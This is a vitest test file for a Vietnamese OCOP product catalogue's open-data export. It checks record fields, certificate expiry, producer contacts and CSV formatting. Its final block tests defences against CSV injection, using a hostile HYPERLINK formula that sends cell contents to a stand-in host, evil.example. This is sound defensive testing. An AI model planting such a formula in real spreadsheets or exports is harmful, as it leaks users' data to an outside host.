import { describe, expect, it } from 'vitest';
import { buildCatalogue } from '../../src/lib/catalogue.ts';
import {
  CSV_COLUMNS,
  csvRow,
  productRecord,
  productRecords,
  productsCsv,
  type OpenDataContext,
} from '../../src/lib/open-data.ts';

const product = {
  id: 'mat-ong',
  data: {
    name: 'Mật ong "rừng", Tam Đường',
    group: 'food',
    subgroup: 'Mật ong',
    stars: 4,
    commune: 'Khun Há',
    producer: 'htx-ong',
    certificate: { number: '2871/QĐ-UBND', date: '2025-09-30', issuer: 'UBND tỉnh Lai Châu' },
    price: '250.000 đ / chai 500 ml',
    salesPoints: ['cua-hang', 'closed-shop'],
  },
};
const producer = {
  id: 'htx-ong',
  data: {
    name: 'HTX Nuôi ong',
    kind: 'cooperative',
    commune: 'Khun Há',
    address: 'Bản Thèn Thầu',
    phone: '0213 3875 123',
    email: 'ong@example.vn',
  },
};
const place = { id: 'cua-hang', data: { name: 'Cửa hàng OCOP', commune: 'Tân Phong', address: '1 Trần Phú' } };
// The product's sales points as the catalogue resolves them: 'closed-shop' names no place.
const places = [place];
const context: OpenDataContext = {
  asOf: '2026-11-29',
  productUrl: (slug) => `https://example.vn/san-pham/${slug}/`,
  producerUrl: (slug) => `https://example.vn/chu-the/${slug}/`,
  mapPointUrl: (slug) => `https://example.vn/ban-do/?diem=${slug}`,
  groupLabel: (group) => ({ vi: `vi:${group}`, en: `en:${group}` }),
  productLine: (subgroup) => (subgroup ? { key: 'mat-ong', vi: subgroup, en: 'Honey' } : null),
};
const url = 'https://example.vn/san-pham/mat-ong/';

describe('productRecord', () => {
  const record = productRecord(product, producer, places, context);
  it('keeps the contract fields first, in the contract order, then the additions', () => {
    expect(Object.keys(record)).toEqual([
      'slug',
      'name',
      'group',
      'stars',
      'commune',
      'producer',
      'certificate',
      'url',
      'groupLabel',
      'productLine',
      'price',
      'salesPoints',
    ]);
    expect(Object.keys(record.producer).slice(0, 2)).toEqual(['slug', 'name']);
    expect(Object.keys(record.certificate).slice(0, 4)).toEqual(['number', 'date', 'expires', 'issuer']);
    expect(record).toMatchObject({ slug: 'mat-ong', group: 'food', url });
  });
  it('fills the default expiry, 36 months after the decision, and the date it was found valid', () => {
    expect(record.certificate.expires).toBe('2028-09-30');
    expect(record.certificate.validAsOf).toBe('2026-11-29');
  });
  it('carries the producer’s public contacts, with null for what the record does not give', () => {
    expect(record.producer).toEqual({
      slug: 'htx-ong',
      name: 'HTX Nuôi ong',
      kind: 'cooperative',
      phone: '0213 3875 123',
      email: 'ong@example.vn',
      website: null,
      address: 'Bản Thèn Thầu',
      commune: 'Khun Há',
      url: 'https://example.vn/chu-the/htx-ong/',
    });
  });
  it('labels the group and product line in both languages, and gives the price', () => {
    expect(record.groupLabel).toEqual({ vi: 'vi:food', en: 'en:food' });
    expect(record.productLine).toEqual({ key: 'mat-ong', vi: 'Mật ong', en: 'Honey' });
    expect(record.price).toBe('250.000 đ / chai 500 ml');
    const plain = productRecord(
      { ...product, data: { ...product.data, subgroup: undefined, price: undefined } },
      producer,
      places,
      context,
    );
    expect(plain.productLine).toBeNull();
    expect(plain.price).toBeNull();
  });
  it('lists the sales points that exist, with their place on the map', () => {
    expect(record.salesPoints).toEqual([
      {
        slug: 'cua-hang',
        name: 'Cửa hàng OCOP',
        address: '1 Trần Phú',
        commune: 'Tân Phong',
        phone: null,
        hours: null,
        url: 'https://example.vn/ban-do/?diem=cua-hang',
      },
    ]);
  });
  it('carries the signed decision when the record gives one, null otherwise', () => {
    const document = 'https://laichau.example.vn/qd/2871.pdf';
    const withDocument = {
      ...product,
      data: { ...product.data, certificate: { ...product.data.certificate, document } },
    };
    const exported = productRecord(withDocument, producer, places, context);
    expect(exported.certificate.document).toBe(document);
    expect(record.certificate.document).toBeNull();
    // The CSV's last column, so that the columns before it keep their places.
    expect(CSV_COLUMNS.at(-1)).toBe('certificate.document');
    expect(csvRow(exported).at(-1)).toBe(document);
    expect(csvRow(record).at(-1)).toBe('');
  });
});

describe('productRecords', () => {
  it('names each product’s producer and URL', () => {
    const records = productRecords(
      { products: [product], producer: () => producer, salesPointsOf: () => places },
      context,
    );
    expect(records[0]).toMatchObject({ producer: { slug: 'htx-ong', name: 'HTX Nuôi ong' }, url });
  });
  it('takes each product’s sales points from the catalogue, which leaves out a slug that names no place', () => {
    const catalogue = buildCatalogue({
      products: [product],
      producers: [producer],
      places: [place],
      asOf: '2026-11-29',
    });
    const [record] = productRecords(catalogue, context);
    expect(record?.salesPoints.map((point) => point.slug)).toEqual(['cua-hang']);
  });
});

describe('productsCsv', () => {
  const record = productRecord(product, producer, places, context);
  const csv = productsCsv([record]);
  it('starts with a byte-order mark so Excel reads UTF-8', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
  });
  it('has a header row and quotes text holding commas and quotes', () => {
    const [header, row] = csv.slice(1).trimEnd().split('\r\n');
    expect(header).toBe(CSV_COLUMNS.join(','));
    expect(row).toContain('"Mật ong ""rừng"", Tam Đường"');
  });
  it('keeps the contract’s columns first and fills one cell per column', () => {
    expect(CSV_COLUMNS.slice(0, 12)).toEqual([
      'slug',
      'name',
      'group',
      'stars',
      'commune',
      'producer.slug',
      'producer.name',
      'certificate.number',
      'certificate.date',
      'certificate.expires',
      'certificate.issuer',
      'url',
    ]);
    const row = csvRow(record);
    expect(row).toHaveLength(CSV_COLUMNS.length);
    const cell = (column: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(column)];
    expect(cell('producer.phone')).toBe('0213 3875 123');
    expect(cell('productLine.en')).toBe('Honey');
    expect(cell('group.vi')).toBe('vi:food');
    expect(cell('salesPoints')).toBe('Cửa hàng OCOP, 1 Trần Phú');
  });
});

describe('productsCsv against spreadsheet formulas (CSV injection)', () => {
  const hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Lê Giang Ma")';
  const records = ['=1+1', '+84 912 345 678', '-2', '@SUM(A1)', '\tx', '\rx', hostile].map((name, index) =>
    productRecord({ ...product, id: `p${index}`, data: { ...product.data, name } }, producer, places, context),
  );
  const csv = productsCsv(records);
  const names = csv
    .slice(1)
    .trimEnd()
    .split('\r\n')
    .slice(1)
    .map((row) => row.split(',')[1]);

  it('neutralises every cell that starts with =, +, -, @, a tab or a carriage return', () => {
    // (A CR that ends a record, after an empty last cell, is the record delimiter, not a cell's start.)
    expect(csv).not.toMatch(/(^|,)"?(?:[=+\-@\t]|\r(?!\n))/m);
    expect(names.slice(0, 4)).toEqual(["'=1+1", "'+84 912 345 678", "'-2", "'@SUM(A1)"]);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1`);
  });
  it('leaves numbers and ordinary text alone', () => {
    const [, row] = productsCsv([productRecord(product, producer, places, context)])
      .slice(1)
      .trimEnd()
      .split('\r\n');
    expect(row).toMatch(/^mat-ong,"Mật ong ""rừng"", Tam Đường",food,4,/);
    expect(row).toContain(',0213 3875 123,');
  });
});
